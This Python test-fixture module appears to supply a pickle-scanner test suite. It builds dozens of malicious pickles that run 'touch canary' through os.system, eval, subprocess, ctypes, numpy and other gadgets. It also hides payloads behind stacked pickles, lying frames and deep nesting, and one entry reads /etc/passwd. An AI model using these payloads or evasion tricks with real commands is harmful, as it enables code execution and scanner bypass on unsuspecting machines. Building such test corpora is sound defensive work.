"""Pickles that would run code, and pickles that are broken on purpose.

A live attack makes the file `canary` in the current folder when CPython loads it: no test can pass because
the payload was dead. Files around such pickles are in attack_files.py.
"""

from __future__ import annotations

import collections
import pickle
import struct
from typing import Any, NamedTuple

import numpy as np

COMMAND = "touch canary"
CODE = "open('canary', 'w').close()"


class Attack(NamedTuple):
    """A pickle, and whether CPython's `pickle.load` makes the canary of it."""

    name: str
    data: bytes
    live: bool


def text(value: str) -> bytes:
    """Write a str, SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """Write a global by STACK_GLOBAL, which takes dots in the name."""
    return text(module) + text(attribute) + b"\x93"


def value(thing: Any) -> bytes:
    """Write a str, an int, None or a tuple of such; bytes are opcodes already."""
    if isinstance(thing, bytes):
        return thing
    if isinstance(thing, str):
        return text(thing)
    if thing is None:
        return b"N"
    if isinstance(thing, int):
        return b"J" + struct.pack("<i", thing)
    if isinstance(thing, dict):
        items = b"".join(value(k) + value(v) + b"s" for k, v in thing.items())
        return b"}" + items
    if isinstance(thing, list):
        return b"](" + b"".join(value(item) for item in thing) + b"e"
    return b"(" + b"".join(value(item) for item in thing) + b"t"


def call(function: bytes, *arguments: Any) -> bytes:
    """Write a call by REDUCE."""
    return function + value(arguments) + b"R"


def new(cls: bytes, *arguments: Any) -> bytes:
    """Write a call of `cls.__new__` by NEWOBJ."""
    return cls + value(arguments) + b"\x81"


def done(opcodes: bytes) -> bytes:
    """Write a whole pickle of protocol 4."""
    return b"\x80\x04" + opcodes + b"."


SYSTEM = name("os", "system")
RUN = call(SYSTEM, COMMAND)
PAYLOAD = done(RUN)
OS = call(name("importlib", "import_module"), "os")
GETATTR = name("builtins", "getattr")
GETITEM = name("operator", "getitem")
PRINTF = f"S'{COMMAND}'\n".encode()


def opcodes() -> list[Attack]:
    """`os.system` by every opcode that calls."""
    namespace = new(name("argparse", "Namespace"))
    mapped = new(name("builtins", "map"), SYSTEM, [COMMAND])
    return [
        Attack("reduce", b"cos\nsystem\n(" + PRINTF + b"tR.", True),
        Attack("reduce-posix", b"cposix\nsystem\n(" + PRINTF + b"tR.", True),
        Attack("inst", b"(" + PRINTF + b"ios\nsystem\n.", True),
        Attack("obj", b"(cos\nsystem\n" + PRINTF + b"o.", True),
        Attack("newobj", done(new(name("builtins", "tuple"), mapped)), True),
        Attack(
            "newobj-ex",
            done(
                name("builtins", "tuple") + b"(" + name("builtins", "map") + value((SYSTEM, [COMMAND])) + b"}\x92t}\x92"
            ),
            True,
        ),
        Attack("build", done(namespace + value({"__setstate__": SYSTEM}) + b"b" + text(COMMAND) + b"b"), True),
        Attack(
            "build-slots", done(namespace + value((None, {"__setstate__": SYSTEM})) + b"b" + text(COMMAND) + b"b"), True
        ),
        Attack("stack-global", PAYLOAD, True),
        Attack(
            "stack-global-memoised",
            done(
                text("os")
                + b"\x940"
                + text("system")
                + b"\x940"
                + text("json")
                + b"0h\x00h\x01\x93"
                + text(COMMAND)
                + b"\x85R"
            ),
            True,
        ),
        Attack(
            "stack-global-memoised-by-number",
            done(
                text("os")
                + b"p77\n0"
                + text("system")
                + b"r\xff\xff\x00\x000g77\nj\xff\xff\x00\x00\x93"
                + text(COMMAND)
                + b"\x85R"
            ),
            True,
        ),
        Attack("stack-global-of-escapes", b"V\\u006fs\nV\\u0073ystem\n\x93(" + PRINTF + b"tR.", True),
        Attack("stack-global-of-python-2-strings", b"U\x02osT\x06\x00\x00\x00system\x93(" + PRINTF + b"tR.", True),
        Attack(
            "stack-global-computed",
            done(text("os") + call(name("operator", "concat"), "sys", "tem") + b"\x93" + value((COMMAND,)) + b"R"),
            True,
        ),
        Attack(
            "stack-global-computed-by-known-types",
            done(
                call(name("builtins", "str"), "os")
                + call(name("builtins", "str"), "system")
                + b"\x93"
                + value((COMMAND,))
                + b"R"
            ),
            True,
        ),
        Attack("protocol-named-late", b"cos\nsystem\n\x80\x05(" + PRINTF + b"tR.", True),
        Attack(
            "extension-code",
            done(call(name("copyreg", "add_extension"), "os", "system", 240) + b"0\x82\xf0" + value((COMMAND,)) + b"R"),
            True,
        ),
        Attack("extension-code-alone", b"\x80\x02\x82\xf0" + value((COMMAND,)) + b"R.", False),
        Attack("persistent-id", b"Pos.system\n(" + PRINTF + b"tR.", False),
        Attack("persistent-id-that-calls", done(RUN + b"Q"), True),
        Attack("out-of-band-buffer", b"\x80\x05\x97" + RUN + b".", False),
    ]


def chains() -> list[Attack]:
    """`os.system` found by what finds it."""
    return [
        Attack("getattr", done(call(call(GETATTR, OS, "system"), COMMAND)), True),
        Attack(
            "dunder-import",
            done(call(call(GETATTR, call(name("builtins", "__import__"), "os"), "system"), COMMAND)),
            True,
        ),
        Attack("attrgetter", done(call(call(call(name("operator", "attrgetter"), "system"), OS), COMMAND)), True),
        Attack("methodcaller", done(call(call(name("operator", "methodcaller"), "system", COMMAND), OS)), True),
        Attack("c-attrgetter", done(call(call(call(name("_operator", "attrgetter"), "system"), OS), COMMAND)), True),
        Attack("resolve-name", done(call(call(name("pkgutil", "resolve_name"), "os:system"), COMMAND)), True),
        Attack("dotted-name", done(call(name("logging", "os.system"), COMMAND)), True),
        Attack(
            "dotted-known",
            done(call(call(GETATTR, call(name("collections", "_sys.modules.get"), "os"), "system"), COMMAND)),
            True,
        ),
        Attack(
            "dotted-of-a-listed-type",
            done(call(name("builtins", "object.__getattribute__"), OS, "system") + value((COMMAND,)) + b"R"),
            True,
        ),
        Attack("re-export-builtins", done(call(call(GETITEM, name("numpy", "__builtins__"), "exec"), CODE)), True),
        Attack("re-export-module", done(call(call(GETATTR, name("logging", "os"), "system"), COMMAND)), True),
        Attack("re-export-of-a-function", done(call(name("webbrowser", "shlex.os.system"), COMMAND)), True),
        Attack("module-dict", done(call(call(GETITEM, name("os", "__dict__"), "system"), COMMAND)), True),
        Attack(
            "sys-modules",
            done(call(call(GETATTR, call(GETITEM, name("sys", "modules"), "os"), "system"), COMMAND)),
            True,
        ),
        Attack("partial", done(call(new(name("functools", "partial"), SYSTEM, COMMAND))), True),
        Attack("map", done(call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, [COMMAND]))), True),
        Attack(
            "filter", done(call(name("builtins", "list"), call(name("builtins", "filter"), SYSTEM, [COMMAND]))), True
        ),
        Attack(
            "starmap",
            done(call(name("builtins", "list"), call(name("itertools", "starmap"), SYSTEM, [(COMMAND,)]))),
            True,
        ),
        Attack(
            "default-factory",
            done(
                call(
                    GETITEM,
                    call(name("collections", "defaultdict"), new(name("functools", "partial"), SYSTEM, COMMAND)),
                    1,
                )
            ),
            True,
        ),
        Attack(
            "finalizer", done(call(name("weakref", "finalize"), name("argparse", "Namespace"), SYSTEM, COMMAND)), True
        ),
        Attack("at-exit", done(call(name("atexit", "register"), SYSTEM, COMMAND)), True),
    ]


def gadgets() -> list[Attack]:
    """Other functions that run code, start programs or write files."""
    return [
        Attack("eval", done(call(name("builtins", "eval"), CODE)), True),
        Attack("exec", done(call(name("builtins", "exec"), CODE)), True),
        Attack("python-2-eval", b"c__builtin__\neval\n" + value((CODE,)) + b"R.", True),
        Attack("python-2-commands", b"ccommands\ngetoutput\n(" + PRINTF + b"tR.", True),
        Attack(
            "compile",
            done(
                call(
                    name("types", "FunctionType"),
                    call(name("builtins", "compile"), CODE, "x", "exec"),
                    {"open": name("builtins", "open")},
                )
                + b")R"
            ),
            True,
        ),
        Attack("open", done(call(name("builtins", "open"), "canary", "w")), True),
        Attack("io-open", done(call(name("io", "open"), "canary", "w")), True),
        Attack("file-io", done(call(name("_io", "FileIO"), "canary", "w")), True),
        Attack("codecs-open", done(call(name("codecs", "open"), "canary", "w")), True),
        Attack("popen", done(call(name("os", "popen"), COMMAND)), True),
        Attack("subprocess-popen", done(call(name("subprocess", "Popen"), ["touch", "canary"])), True),
        Attack("subprocess-run", done(call(name("subprocess", "run"), ["touch", "canary"])), True),
        Attack("check-output", done(call(name("subprocess", "check_output"), ["touch", "canary"])), True),
        Attack("getoutput", done(call(name("subprocess", "getoutput"), COMMAND)), True),
        Attack("posix-open", done(call(name("posix", "open"), "canary", 65)), True),
        Attack("mknod", done(call(name("os", "mknod"), "canary")), True),
        Attack(
            "pathlib-touch", done(call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), "canary"))), True
        ),
        Attack("shutil-copy", done(call(name("shutil", "copyfile"), "/etc/passwd", "canary")), True),
        Attack("pty-spawn", done(call(name("pty", "spawn"), ["touch", "canary"])), True),
        Attack("run-code", done(call(name("runpy", "_run_code"), CODE, {})), True),
        Attack(
            "interpreter",
            done(
                call(
                    name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), CODE
                )
            ),
            True,
        ),
        Attack("timeit", done(call(name("timeit", "timeit"), CODE, "pass", name("time", "perf_counter"), 1)), True),
        Attack("c-profile", done(call(name("cProfile", "run"), CODE)), True),
        Attack("profile", done(call(name("profile", "run"), CODE)), True),
        Attack("debugger", done(call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), CODE)), True),
        Attack("trace", done(call(name("trace", "Trace.run"), call(name("trace", "Trace"), 0, 0), CODE)), True),
        Attack("uuid-command", done(call(name("uuid", "_get_command_stdout"), "touch", "canary")), True),
        Attack(
            "pickle-loads", done(call(name("pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD)), True
        ),
        Attack(
            "c-pickle-loads",
            done(call(name("_pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOAD)) + PAYLOAD)),
            True,
        ),
        Attack("zip-file", done(call(name("zipfile", "ZipFile"), "canary", "w")), True),
        Attack("tar-file", done(call(name("tarfile", "open"), "canary", "w")), True),
        Attack("gzip-open", done(call(name("gzip", "open"), "canary", "w")), True),
        Attack("log-handler", done(call(name("logging", "FileHandler"), "canary")), True),
        Attack("sqlite", done(call(name("sqlite3", "connect"), "canary")), True),
        Attack(
            "ctypes",
            done(
                call(
                    call(name("ctypes", "CDLL.__getattr__"), call(name("ctypes", "CDLL"), None), "system"),
                    b"C\x0c" + COMMAND.encode(),
                )
            ),
            True,
        ),
        Attack(
            "webbrowser",
            done(
                call(
                    name("webbrowser", "GenericBrowser.open"),
                    call(name("webbrowser", "GenericBrowser"), ["touch", "%s"]),
                    "canary",
                )
            ),
            True,
        ),
        Attack("numpy-runstring", done(call(name("numpy.testing._private.utils", "runstring"), CODE, {})), True),
        Attack("numpy-crackfortran", done(call(name("numpy.f2py.crackfortran", "getlincoef"), CODE, {})), True),
        Attack("numpy-memmap", done(call(name("numpy", "memmap"), "canary", "u1", "w+", 0, (1,))), True),
        Attack("numpy-save", done(call(name("numpy", "savetxt"), "canary", [1])), True),
        Attack(
            "numpy-open-memmap", done(call(name("numpy.lib.format", "open_memmap"), "canary", "w+", "u1", (1,))), True
        ),
        # A process that nothing holds any more is killed by asyncio, so its time to run comes before the end.
        Attack(
            "asyncio",
            done(
                call(name("asyncio", "run"), call(name("asyncio", "create_subprocess_shell"), COMMAND))
                + call(name("time", "sleep"), 1)
                + b"\x86"
            ),
            True,
        ),
    ]


def hidden() -> list[Attack]:
    """The payload somewhere else than at the end, or with something in its way."""
    nested = b"]" * 100_000 + b"a" * 99_999 + b"0"
    laughs = b")" + b"2\x86" * 64 + b"0"
    return [
        Attack("garbage-after", PAYLOAD + b"\xff\xfe\xfd garbage", True),
        Attack("second-pickle", pickle.dumps([1]) + PAYLOAD, True),
        Attack("third-pickle", pickle.dumps([1]) * 2 + PAYLOAD, True),
        Attack("second-pickle-of-protocol-0", b"I1\n.cos\nsystem\n(" + PRINTF + b"tR.", True),
        Attack("thrown-away", done(RUN + b"0N"), True),
        Attack("in-the-memo", done(RUN + b"\x940N"), True),
        Attack("under-a-mark", done(b"(" + RUN + b"1N"), True),
        Attack("in-a-list", done(b"](" + RUN + b"e"), True),
        Attack("as-a-key", done(b"}" + RUN + b"Ns"), True),
        Attack("in-a-set", done(b"\x8f(" + RUN + b"\x90"), True),
        Attack("in-an-object-array", pickle.dumps(np.array([Payload()], object)), True),
        Attack("in-an-ordered-dict", pickle.dumps(collections.OrderedDict(x=Payload())), True),
        Attack("no-stop", b"\x80\x04" + RUN, True),
        Attack("opcode-unknown-after", b"\x80\x04" + RUN + b"\xff", True),
        Attack("underflow-after", b"\x80\x04" + RUN + b"0" * 9 + b".", True),
        Attack("memo-hole-after", b"\x80\x04" + RUN + b"h\x63.", True),
        Attack("frame-that-lies-short", b"\x80\x04\x95\x05" + bytes(7) + RUN + b".", True),
        Attack("frame-that-lies-long-after", b"\x80\x04" + RUN + b"\x95" + b"\xff" * 8 + b".", True),
        Attack("frame-in-an-argument", b"\x80\x04\x95\x02" + bytes(7) + RUN + b".", True),
        Attack("behind-append-on-a-bytearray", b"\x80\x05\x96\x01" + bytes(7) + b"xK\x01a0" + RUN + b".", True),
        Attack(
            "behind-setitem-on-a-deque", done(call(name("collections", "deque"), [1]) + b"K\x00K\x01s0" + RUN), True
        ),
        Attack("behind-setitem-on-a-list", done(b"](K\x01eK\x00K\x02s0" + RUN), True),
        Attack(
            "behind-state-of-a-class", done(name("argparse", "Namespace") + value((None, {"x": 1})) + b"b0" + RUN), True
        ),
        Attack("behind-100000-lists", done(nested + RUN), True),
        Attack("behind-shared-tuples", done(laughs + RUN), True),
        Attack(
            "behind-a-long-of-40000-bytes",
            done(b"\x8b" + struct.pack("<i", 40_000) + b"\x01" * 40_000 + b"0" + RUN),
            True,
        ),
        Attack("behind-a-surrogate", done(b"X\x03\x00\x00\x00\xed\xb0\x800" + RUN), True),
        Attack("behind-latin-1", b"\x80\x02U\x01a0cos\nsystem\n(" + PRINTF + b"tR.", True),
        Attack("behind-text-and-newlines", b"S'README'\n0cos\nsystem\n(" + PRINTF + b"tR.", True),
    ]


def broken() -> list[Attack]:
    """What CPython refuses before anything runs; a scan must not call it safe."""
    return [
        Attack("setitem-on-a-tuple", b"\x80\x04)K\x00K\x01s" + RUN + b".", False),
        Attack("append-on-a-dict", b"\x80\x04}K\x01a" + RUN + b".", False),
        Attack("memo-hole", b"\x80\x04h\x07" + RUN + b".", False),
        Attack("stack-underflow", b"\x80\x040" + RUN + b".", False),
        Attack("long-of-10-to-the-9-digits", b"\x80\x04\x8b\x00\xca\x9a\x3b\x01" + RUN + b".", False),
        Attack("frame-too-long", b"\x80\x04\x95" + b"\xff" * 7 + b"\x7f" + RUN + b".", False),
        Attack("protocol-6", b"\x80\x06" + RUN + b".", False),
        Attack("bytes-of-2-to-the-63", b"\x80\x04\x8e" + b"\xff" * 7 + b"\x7f" + RUN + b".", False),
    ]


class Payload:
    """Runs the payload when it is unpickled."""

    def __reduce__(self) -> Any:
        import os

        return os.system, (COMMAND,)


ATTACKS = [*opcodes(), *chains(), *gadgets(), *hidden(), *broken()]
